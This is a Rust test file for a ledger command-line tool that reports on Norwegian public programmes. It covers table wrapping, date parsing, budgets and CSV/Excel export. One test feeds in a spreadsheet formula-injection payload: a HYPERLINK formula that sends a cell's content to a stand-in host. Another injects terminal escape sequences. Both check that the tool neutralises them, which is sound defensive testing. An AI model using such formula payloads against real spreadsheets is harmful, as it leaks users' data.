//! How answers look: widths and columns, days, spreadsheets, what stands together.

use serde_json::{Value, json};

use super::{PERSON, small};
use crate::support::Folder;
use crate::support::call::call;
use crate::support::folder::split;

/// What is printed on a terminal or pipe of a width, as COLUMNS says it.
fn printed(folder: &Folder, words: &str, columns: &str) -> String {
    let done = call(folder.path(), &split(words), "", &[("COLUMNS", columns)]);
    assert_eq!(done.code, 0, "{words}: {}", done.stderr);
    done.stdout
}

fn widest(text: &str) -> usize {
    text.lines().map(|line| line.chars().count()).max().unwrap_or_default()
}

/// Words that must never be broken: amounts, days, positions, ids.
fn whole(word: &str) -> bool {
    let day =
        word.len() == 10 && word.bytes().filter(|byte| *byte == b'-').count() == 2 && word.starts_with(['1', '2']);
    let uuid = word.len() == 36 && word.bytes().filter(|byte| *byte == b'-').count() == 4;
    word.starts_with('#') || day || uuid
}

#[test]
fn tables_fit_the_width_and_break_no_day_id_amount_or_position() {
    let demo = Folder::demo();
    for words in [
        "statement",
        "milestones TIO",
        "budget",
        "budget --by grant",
        "goals",
        "duties",
        "findings",
        "log --from 21000 --limit 400",
        "programmes",
    ] {
        let words = format!("{words} {}", if words.starts_with("log") { "" } else { "--as-of 2017-12-31" });
        let wide = demo.ok(&words).stdout;
        for (columns, lang) in [(60, "en"), (60, "nb"), (80, "en"), (80, "nb"), (120, "en")] {
            let text = printed(&demo, &format!("{words} --lang {lang}"), &columns.to_string());
            let tables: Vec<&str> = text.lines().filter(|line| !line.starts_with("══")).collect();
            assert!(widest(&tables.join("\n")) <= columns, "{words} at {columns}:\n{text}");
            // Whatever is shown stands in the wide table too, and is whole there.
            let known: std::collections::BTreeSet<&str> = wide.split([' ', ',', '\n']).collect();
            for word in text.split([' ', ',', '\n']).filter(|word| whole(word)) {
                assert!(known.contains(word), "{words} at {columns}: {word} is broken\n{text}");
            }
        }
    }
}

#[test]
fn rows_that_differ_never_look_alike() {
    let demo = Folder::demo();
    // By what a row is about: a goal with its kind and period, a grant with its source, an entry with its body.
    for (words, apart) in [
        ("goals KVP --as-of 2010-06-30", ["kind point", "kind average", "2010-01-01 – 2010-12-31"].as_slice()),
        ("budget --by grant --as-of 2017-12-31", &["621.21", "621.63", "761.77", "county_governor", "municipal"]),
        ("log --from 3016 --limit 2", &["office Oppland", "programme KVP", "38cfe7b8-520a-44a5-b540-7d3394d22f3f"]),
        (
            "figures TRAPPA --as-of 2017-12-31",
            &["part provider=ASVO;year=2016", "2016-12-31", "derived for 2017-11-15"],
        ),
        ("findings --as-of 2017-12-31", &["HUSK", "risks (open then: 10 risks)"]),
    ] {
        for columns in ["40", "60", "80"] {
            let text = printed(&demo, words, columns);
            let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
            let found = |what: &&&str| text.contains(**what) || text.contains(what.trim_start_matches("kind "));
            assert!(apart.iter().all(|what| found(&what)), "{words} at {columns}: {text}");
        }
    }
    // Columns that are chosen are those that are shown.
    let chosen = printed(&demo, "goals KVP --as-of 2010-06-30 --columns goal,target", "20");
    let chosen = chosen.split("\n\n").next().unwrap_or_default();
    assert!(!chosen.contains("average") && !chosen.contains("left out"), "{chosen}");
}

#[test]
fn what_is_said_of_the_records_is_wrapped_like_the_rest() {
    let demo = Folder::demo();
    for (columns, lang) in [(40, "en"), (60, "nb"), (80, "en")] {
        let text = printed(&demo, &format!("goals --as-of 2017-12-31 --lang {lang}"), &columns.to_string());
        let below = text.rsplit("\n\n").next().unwrap();
        assert!(widest(below) <= columns && below.lines().count() > 2, "{below}");
        // Only programmes that have such goals.
        assert!(below.contains("KVP") && below.contains("P1824") && !below.contains("TIO"), "{below}");
    }
}

#[test]
fn lateness_that_nobody_knows_is_shown_as_a_range() {
    let demo = Folder::demo();
    let words = "milestones TRAPPA --as-of 2017-12-31";
    let range = |lang: &str| printed(&demo, &format!("{words} --columns title,days_late --lang {lang}"), "80");
    assert!(
        range("en").contains(" 75 early to 549\n") && range("nb").contains(" 75 for tidlig til 549\n"),
        "{}",
        range("en")
    );
    let csv = demo.ok(&format!("{words} --format csv")).stdout;
    assert!(csv.lines().next().unwrap().ends_with("days_late_least,days_late_most"), "{csv}");
    assert!(csv.lines().any(|line| line.ends_with(",-75,549")), "{csv}");
    let folder = small();
    folder.ok("record plan.milestone_completed --plan STEP --milestone 2026/1 --effective '{\"start\":\"2026-03-13\",\"end\":\"2026-04-12\",\"as_written\":\"done\"}'");
    let table = folder.ok("milestones STEP --as-of 2026-06-30 --columns title,days_late").stdout;
    assert!(table.contains(" 12-42"), "{table}");
}

#[test]
fn no_difference_is_one_sentence() {
    let demo = Folder::demo();
    let words = "explain --known-at 20000 --and 20000 --as-of 2010-01-01 -- state --programme KVP";
    let table = demo.ok(words).stdout;
    assert!(table.contains("no difference: both states of knowledge give the same answer"), "{table}");
    assert!(!table.contains("nothing\n"), "{table}");
    assert!(demo.ok(&format!("--lang nb {words}")).stdout.contains("ingen forskjell"));
    assert_eq!(demo.ask(words)["rows"], json!([]));
}

#[test]
fn amounts_stay_on_one_line_however_narrow() {
    let demo = Folder::demo();
    let text =
        printed(&demo, "budget --columns programme,year,appropriated_ore,available_ore --as-of 2017-12-31", "20");
    for amount in ["107 610 000.00", "20 000 000.00", "13 055 000.00"] {
        assert!(text.lines().any(|line| line.contains(amount)), "{amount}\n{text}");
    }
}

#[test]
fn a_width_of_nothing_is_a_pipe() {
    let demo = Folder::demo();
    let words = "milestones TIO --as-of 2007-08-27";
    let whole = demo.ok(words).stdout;
    for columns in ["0", "", "wide", "100000"] {
        assert_eq!(printed(&demo, words, columns), whole, "{columns:?}");
    }
    assert!(widest(&whole) > 200 && !whole.contains("left out"));
}

#[test]
fn what_a_narrow_table_leaves_out_is_told_and_can_be_chosen() {
    let demo = Folder::demo();
    let words = "milestones TIO --as-of 2007-08-27";
    let narrow = printed(&demo, words, "80");
    for key in ["continued_by", "findings", "responsible", "due_original", "slip_days"] {
        assert!(narrow.contains("left out") && narrow.contains(key), "{key}\n{narrow}");
    }
    assert!(narrow.contains("days") && narrow.contains("completed") && narrow.contains("2006-10-19 –"), "{narrow}");
    let chosen = printed(&demo, &format!("{words} --columns number,responsible,slip_days,milestone"), "80");
    assert!(
        chosen.starts_with(" no.") && chosen.contains("project manager") && !chosen.contains("left out"),
        "{chosen}"
    );
    let nb = printed(&demo, &format!("{words} --lang nb"), "80");
    assert!(nb.contains("utelatt") && nb.contains("forskjøvet (dager)"), "{nb}");
}

#[test]
fn columns_are_chosen_in_tables_and_csv_and_an_unknown_one_is_refused() {
    let folder = small();
    let csv = folder.ok("milestones STEP --as-of 2026-06-30 --format csv --columns title,due,due_original.end").stdout;
    assert_eq!(
        csv.lines().take(2).collect::<Vec<_>>().join("|"),
        "title,due,due_original.end|Agreement with the workshop,2026-03-01,2026-03-01"
    );
    let error = folder.run("milestones STEP --as-of 2026-06-30 --columns title,colour");
    assert_eq!((error.code, error.stdout.as_str()), (2, ""));
    assert!(error.stderr.contains("'colour'") && error.stderr.contains("slip_days"), "{}", error.stderr);
    assert_eq!(folder.run("state --columns ever --format json").code, 2);
    assert_eq!(folder.run("state --excel").code, 2);
    assert_eq!(folder.run("state --excel --format json").code, 2);
    // Nothing to show is no wrong name.
    assert_eq!(folder.run("figures --columns indicator,published").code, 0);
}

#[test]
fn a_plan_shows_who_is_responsible_the_first_deadline_and_the_slip() {
    let folder = small();
    folder
        .ok("record plan.milestone_rescheduled --plan STEP --milestone 2026/1 --due 2026-05-01 --effective 2026-02-01");
    let table = folder.ok("milestones STEP --as-of 2026-04-01").stdout;
    let (head, row) = (table.lines().next().unwrap(), table.lines().nth(2).unwrap());
    assert!(
        head.contains("responsible") && head.contains("original deadline") && head.contains("slip, days"),
        "{head}"
    );
    assert!(row.contains("2026-05-01") && row.contains("2026-03-01") && row.contains(" 61 "), "{row}");
    assert_eq!(folder.ask("milestones STEP --as-of 2026-04-01")["milestones"][0]["slip_days"], 61);
}

#[test]
fn days_are_read_alike_everywhere() {
    let demo = Folder::demo();
    let words = "state --programme KVP";
    let plain = demo.ok(&format!("{words} --as-of 2009-12-31 --known-at 2009-12-31")).stdout;
    // A month is its last day where a day is asked about.
    for day in ["31.12.2009", "'31. desember 2009'", "2009-12-31T00:00:00", "'desember 2009'"] {
        let done = demo.ok(&format!("{words} --as-of {day} --known-at {day}"));
        assert_eq!((done.stdout.as_str(), done.stderr.as_str()), (plain.as_str(), ""), "{day}");
    }
    // What had to be guessed is said, unless it is not to be.
    let done = demo.ok(&format!("{words} --as-of 31.12.09 --known-at 31.12.2009"));
    assert!(done.stdout == plain && done.stderr.contains("read as 2009-12-31"), "{}", done.stderr);
    assert_eq!(demo.ok(&format!("{words} --as-of 31.12.09 --quiet")).stderr, "");
    let count = |words: &str| demo.ask(words)["entries"].as_array().unwrap().len();
    let of =
        |from: &str, to: &str| count(&format!("log --recorded-from {from} --recorded-to {to} --effective-to {to}"));
    assert_eq!(of("1.1.2009", "31.12.2009"), of("2009-01-01", "2009-12-31"));
    let explained = |known: &str, and: &str| {
        demo.ok(&format!("explain --known-at {known} --and {and} --as-of 31.12.2009 -- state --programme KVP")).stdout
    };
    assert_eq!(explained("31.12.2009", "31.1.2010"), explained("2009-12-31", "2010-01-31"));
    for wrong in ["31.11.2009", "31.12.", "soon"] {
        let done = demo.run(&format!("{words} --as-of {wrong}"));
        assert_eq!(done.code, 2, "{wrong}: {}", done.stderr);
    }
}

#[test]
fn days_of_an_import_are_read_like_those_in_it() {
    let folder = small();
    folder.write("plan.csv", "section;number;title;due\n2026;7;Report;01.06.2026\n");
    folder.ok("import plan.csv --kind milestones --plan P --effective 1.2.2026 --document-date '2. februar 2026'");
    let entries = folder.ask("log --stream plan/P")["entries"].take();
    assert_eq!(entries[0]["effective"], "2026-02-01");
    folder.write("figures.csv", "figure;value;unit;when\nplaces;12;persons;2030\n");
    let refused = folder.run("import figures.csv --kind figures --programme STEP");
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    assert!(refused.stderr.contains("line 2") && refused.stderr.contains("--effective"), "{}", refused.stderr);
    folder.ok("import figures.csv --kind figures --programme STEP --effective 15.01.2026");
    // A forecast is shown from the day that it was published.
    assert_eq!(folder.ask("figures --as-of 2026-01-14")["figures"], json!([]));
    let shown = folder.ask("figures --as-of 2026-01-15")["figures"][0].take();
    assert_eq!((&shown["published"], &shown["derived"]), (&json!(12), &Value::Null));
}

#[test]
fn a_spreadsheet_is_given_no_formula() {
    let folder = small();
    folder.write(
        "plan.csv",
        "section;number;title;due\n2026;1;\"=HYPERLINK(\"\"http://x.example/?a=\"\"&A1,\"\"open\"\")\";01.06.2026\n2026;2;@SUM(A1);02.06.2026\n2026;3;-2+3;03.06.2026\n2026;4;+1;03.06.2026\n",
    );
    folder.ok("import plan.csv --kind milestones --plan P");
    let words = "milestones P --as-of 2026-12-31 --format csv";
    let excel = folder.ok(&format!("{words} --excel")).stdout;
    assert!(excel.starts_with("\u{feff}section;number;title;"), "{excel}");
    for cell in [";\"'=HYPERLINK(", ";'@SUM(A1);", ";'-2+3;", ";+1;", ";01.06.2026;"] {
        assert!(excel.contains(cell), "{cell}\n{excel}");
    }
    assert!(!excel.contains(";=") && !excel.contains(";\"=") && excel.contains("\r\n"), "{excel}");
    let plain = folder.ok(words).stdout;
    assert!(plain.contains("\"=HYPERLINK(\"\"http://x.example/?a=\"\"&A1,\"\"open\"\")\""), "{plain}");
    assert!(plain.contains(",@SUM(A1),") && plain.contains(",2026-06-01,"), "{plain}");
}

#[test]
fn a_spreadsheet_is_given_kroner_and_norwegian_days() {
    let folder = small();
    let excel = folder.ok("budget --as-of 2026-12-31 --format csv --excel").stdout;
    let mut lines = excel.lines();
    let (head, line) = (lines.next().unwrap(), lines.next().unwrap());
    assert!(head.contains("appropriated_nok;allocated_nok") && !head.contains("_ore"), "{head}");
    assert!(line.starts_with("STEP;2026;621.63;;100000,00;40000,00;"), "{line}");
    let course = folder.ok(&format!("state participant {PERSON} --as-of 2026-12-31 --format csv --excel")).stdout;
    assert!(course.contains("share_percent") && course.contains(";50,00;02.02.2026;"), "{course}");
}

#[test]
fn control_characters_are_escaped_in_every_answer() {
    let folder = small();
    let title = "a\u{1b}[31mred\u{9b}\u{7f}\ttab";
    let entry = json!({"type": "plan.milestone_planned", "stream": "plan/P", "effective": "2026-01-01",
        "body": {"section": "2026", "number": "1", "title": title}});
    assert_eq!(folder.run_with("record --json -", &entry.to_string()).code, 0);
    let escaped = "a\\u001b[31mred\\u009b\\u007f\\ttab";
    for words in [
        "milestones P --as-of 2026-12-31",
        "milestones P --as-of 2026-12-31 --format csv",
        "milestones P --as-of 2026-12-31 --format csv --excel",
        "milestones P --as-of 2026-12-31 --format json",
        "log",
        "log --format json",
    ] {
        let text = folder.ok(words).stdout;
        assert!(text.contains(escaped), "{words}\n{text}");
        assert!(!text.contains(|c: char| c.is_control() && c != '\n' && c != '\r'), "{words}");
    }
    assert_eq!(folder.ask("milestones P --as-of 2026-12-31")["milestones"][0]["title"], title);
    // What is moved elsewhere keeps its bytes.
    let exported = folder.ok("export --to jsonl").stdout;
    assert!(exported.lines().any(|line| serde_json::from_str::<Value>(line).unwrap()["body"]["title"] == title));
}

#[test]
fn last_days_are_shown_to_people_and_first_days_outside_to_programs() {
    let folder = small();
    folder.ok(&format!("record measure.ended --participant {PERSON} --outcome work --effective 2026-06-30"));
    folder.ok(&format!("record participant.exited --participant {PERSON} --destination work --effective 2026-06-30"));
    let words = format!("state participant {PERSON} --as-of 2026-12-31");
    let course = folder.ask(&words);
    assert_eq!(course["enrolments"][0]["to"], "2026-07-01");
    assert_eq!(course["enrolments"][0]["placements"][0]["to"], "2026-07-01");
    let spells = |text: &str| text.split("\n\n").take(2).collect::<Vec<_>>().join("\n");
    let table = spells(&folder.ok(&words).stdout);
    assert!(table.contains("2026-06-30") && table.contains(" to "), "{table}");
    assert!(folder.ok(&format!("{words} --lang nb")).stdout.contains(" til "));
    let csv = spells(&folder.ok(&format!("{words} --format csv")).stdout);
    assert_eq!(csv.matches(",last_day,").count(), 2, "{csv}");
    assert_eq!(csv.matches(",2026-06-30,").count(), 2, "{csv}");
    assert!(!csv.contains(",to,"), "{csv}");
    // The same in the difference between two states of knowledge, and in projects.
    let explained = folder.ok(&format!("explain --known-at 9 --as-of 2026-12-31 -- state participant {PERSON}")).stdout;
    let row = explained.lines().find(|line| line.contains(": to ")).unwrap();
    assert!(row.contains("2026-06-30"), "{row}");
    let demo = Folder::demo();
    let projects = demo.ok("programmes --municipality Drammen --as-of 2017-12-31 --format csv").stdout;
    assert!(projects.contains("project.last_day") && projects.contains("2010-12-31"), "{projects}");
    let answer = demo.ask("programmes --municipality Drammen --as-of 2017-12-31");
    assert_eq!(answer["programmes"][0]["projects"][0]["last_day"], "2010-12-31");
}

#[test]
fn every_event_of_a_person_is_shown_with_its_day_and_position() {
    let folder = small();
    let record = |what: &str| folder.ok(&format!("record {what} --participant {PERSON}"));
    record("participant.decided --decision extend --legal-basis 'section 29' --effective 2026-03-01");
    record("participant.assessed --instrument kis --sources-cited yes --effective 2026-03-02");
    record("participant.plan_offered --plan activity_plan --answer declined --effective 2026-03-03");
    record("participant.reviewed --review internal --effective 2026-03-04");
    let words = format!("state participant {PERSON} --as-of 2026-12-31");
    let events = folder.ask(&words)["enrolments"][0]["events"].take();
    let told: Vec<String> = events
        .as_array()
        .unwrap()
        .iter()
        .map(|event| format!("{} {} {}", event["day"].as_str().unwrap(), event["seq"], event["type"].as_str().unwrap()))
        .collect();
    assert_eq!(
        told,
        [
            "2026-01-12 4 participant.intake",
            "2026-02-02 5 measure.started",
            "2026-03-01 10 participant.decided",
            "2026-03-02 11 participant.assessed",
            "2026-03-03 12 participant.plan_offered",
            "2026-03-04 13 participant.reviewed",
        ]
    );
    let table = folder.ok(&words).stdout;
    for event in
        ["#3 ", "#10", "decision extend, grounds other, grounds text section 29", "answer declined, plan activity_plan"]
    {
        assert!(table.contains(event), "{event}\n{table}");
    }
}

#[test]
fn equal_findings_stand_together_the_gravest_first() {
    let demo = Folder::demo();
    let table = demo.ok("findings --programme TIO --as-of 2007-08-27").stdout;
    let late: Vec<&str> = table.lines().filter(|line| line.contains("milestone_late")).collect();
    let each = demo.ask("findings --programme TIO --kind milestone_late --as-of 2007-08-27")["findings"].take();
    let count = each.as_array().unwrap().len();
    assert!(count > 2 && (2..count).contains(&late.len()), "{table}");
    // What is open and what was completed late are never one line.
    let more =
        |line: &&str| line.split("(and ").nth(1).map_or(0, |text| text.split(' ').next().unwrap().parse().unwrap());
    assert_eq!(late.iter().map(|line| 1 + more(line)).sum::<usize>(), count, "{table}");
    assert!(late.iter().any(|line| line.contains(" is open ")) && late.iter().any(|line| line.contains(" completed ")));
    assert!(table.contains("--kind"), "{table}");
    let alone = demo.ok("findings --programme TIO --kind milestone_late --as-of 2007-08-27").stdout;
    assert_eq!(alone.lines().filter(|line| line.contains("milestone_late")).count(), count);
    let csv = demo.ok("findings --programme TIO --as-of 2007-08-27 --format csv").stdout;
    assert_eq!(csv.lines().filter(|line| line.contains("milestone_late")).count(), count);
    let all = demo.ok("findings --as-of 2017-12-31").stdout;
    let weights: Vec<usize> = all
        .lines()
        .filter_map(|line| ["error", "warning", "notice"].iter().position(|word| line.trim_start().starts_with(word)))
        .collect();
    assert!(weights.len() > 10 && weights.is_sorted(), "{all}");
}

#[test]
fn an_import_recorded_late_is_one_finding() {
    let folder = small();
    folder.write("people.csv", "participant;start;office\n11111111-1111-4111-8111-111111111111;2020-01-01;Centre\n22222222-2222-4222-8222-222222222222;2020-02-01;Centre\n33333333-3333-4333-8333-333333333333;2020-03-01;Centre\n");
    folder.ok("import people.csv --kind registration");
    let late = folder.ask("findings --kind recorded_late")["findings"].take();
    let told: Vec<&str> = late.as_array().unwrap().iter().filter_map(|finding| finding["what"].as_str()).collect();
    assert_eq!(told.iter().filter(|what| what.starts_with("3 entries were recorded together")).count(), 1, "{told:?}");
}

#[test]
fn money_is_shown_by_grant_with_what_was_carried_over() {
    let folder = small();
    let fund = "--programme STEP --year 2026 --source 621.63 --grant G1";
    folder.ok(&format!("record grant.disbursed {fund} --amount 30000 --effective 2026-03-01"));
    folder.ok(&format!("record grant.carried_over {fund} --amount 10000 --to-year 2027 --effective 2026-11-01"));
    let lines = folder.ask("budget --by grant --as-of 2026-12-31")["lines"].take();
    let told: Vec<String> = lines
        .as_array()
        .unwrap()
        .iter()
        .map(|line| format!("{} {} {} {}", line["year"], line["grant"], line["unspent_ore"], line["available_ore"]))
        .collect();
    // Nothing is recorded of what the recipient spent.
    assert_eq!(told, ["2026 null null 6000000", "2026 \"G1\" null null", "2027 \"G1\" null null"]);
    folder.ok(&format!("record grant.spent {fund} --amount 15000 --purpose pay --effective 2026-04-01"));
    let lines = folder.ask("budget --by grant --as-of 2026-12-31")["lines"].take();
    assert_eq!((&lines[1]["unspent_ore"], &lines[1]["unspent_not_known"]), (&json!(500_000), &json!(0)), "{lines}");
    let table = folder.ok("budget --as-of 2026-12-31").stdout;
    assert!(table.contains("carried in") && table.contains("carried out") && table.contains("10 000.00"), "{table}");
    let recipients = folder.ok("budget --by recipient --as-of 2026-12-31").stdout;
    assert!(recipients.contains("60 000.00") && !recipients.contains(" -"), "{recipients}");
    assert!(folder.ok("budget --by grant --as-of 2026-12-31").stdout.contains("Example municipality"));
}

#[test]
fn figures_are_shown_in_kroner_and_percent() {
    let demo = Folder::demo();
    let table = demo.ok("figures HUSK --as-of 2017-12-31").stdout;
    assert!(table.contains("870 500.00") && table.contains("kroner") && !table.contains("87050000"), "{table}");
    assert!(demo.ok("figures KVP --as-of 2017-12-31").stdout.contains("38.00 %"));
    assert!(demo.ok("figures KVP --as-of 2017-12-31 --lang nb").stdout.contains("prosent"));
    let csv = demo.ok("figures HUSK --as-of 2017-12-31 --format csv").stdout;
    assert!(csv.contains(",87050000,ore,"), "{csv}");
    let excel = demo.ok("figures HUSK --as-of 2017-12-31 --format csv --excel").stdout;
    assert!(excel.contains(";870500,00;NOK;"), "{excel}");
}

#[test]
fn placements_have_no_empty_column() {
    let demo = Folder::demo();
    let head =
        |by: &str| demo.ok(&format!("placements {by} --as-of 2017-12-31")).stdout.lines().next().unwrap().to_owned();
    assert!(head("").contains("tiltak") || (head("").contains("provider") && !head("").contains("outcome")));
    assert!(!head("--by year").contains("provider"));
    assert!(head("--by outcome").contains("provider") && head("--by outcome").contains("outcome"));
    let csv = demo.ok("placements --as-of 2017-12-31 --format csv").stdout;
    assert!(csv.starts_with("programme,year,provider,outcome,participants,placements\n"), "{csv}");
}

#[test]
fn the_demo_is_made_where_it_is_asked_for_and_shown_again() {
    let folder = Folder::bare();
    let first = folder.ok("demo --ledger here");
    assert!(folder.path().join("here").exists() && !folder.path().join("demo-ledger").exists());
    assert!(first.stderr.contains("created"), "{}", first.stderr);
    let again = folder.ok("demo --ledger here");
    assert_eq!((again.stdout.as_str(), again.stderr.as_str()), (first.stdout.as_str(), ""));
    let named = call(folder.path(), &split("demo"), "", &[("HOVEDBOK_LEDGER", "here")]);
    assert_eq!((named.code, named.stdout.as_str()), (0, first.stdout.as_str()));
    // What was recorded since is in it; another ledger is not the demo.
    let later = folder.ok("demo --dir here --as-of 31.12.2009 --known-at 2000");
    assert!(later.stdout.contains("known at #2000"), "{}", later.stdout);
    folder.ok("init --ledger mine");
    assert_eq!(folder.refused(1, "demo --ledger mine")["code"], "check");
    assert_eq!(folder.ask("status --ledger mine")["entries"], 0);
}

#[test]
fn the_sides_of_a_comparison_are_in_kroner_and_percent() {
    let folder = Folder::demo();
    let call = "compare --a '--as-of 2016-12-31' --b '--as-of 2017-12-31' --changed -- budget TRAPPA";
    let rows = folder.json(call)["rows"].take();
    let differs =
        |row: &&Value| row["row"].as_str().is_some_and(|name| name.ends_with("_ore")) && row["difference"].is_i64();
    let row = rows.as_array().unwrap().iter().find(differs).expect("an amount that differs");
    let ore = row["difference"].as_i64().expect("a number");
    let table = folder.ok(call).stdout;
    assert_eq!(row["row"], "totals.allocated_ore");
    let line = table.lines().find(|line| line.trim_start().starts_with("totals allocated")).unwrap();
    let shown = line.replace(' ', "");
    assert!(
        shown.ends_with(&format!("{}{}.{:02}", if ore < 0 { "-" } else { "" }, ore.abs() / 100, ore.abs() % 100)),
        "{line}"
    );
    // Programs get øre.
    assert!(folder.ok(&call.replace("compare", "compare --format csv")).stdout.contains(&format!(",{ore}\n")));
}

#[test]
fn a_list_names_what_is_missing_of_a_person_and_not_of_a_file() {
    let folder = Folder::demo();
    let list = "list --programme P1824 --as-of 2017-06-01 --columns participant,missing --lang nb";
    let header = folder.ok(list).stdout.lines().next().unwrap_or_default().to_owned();
    assert!(header.contains("mangler") && !header.contains("filen"), "{header}");
}
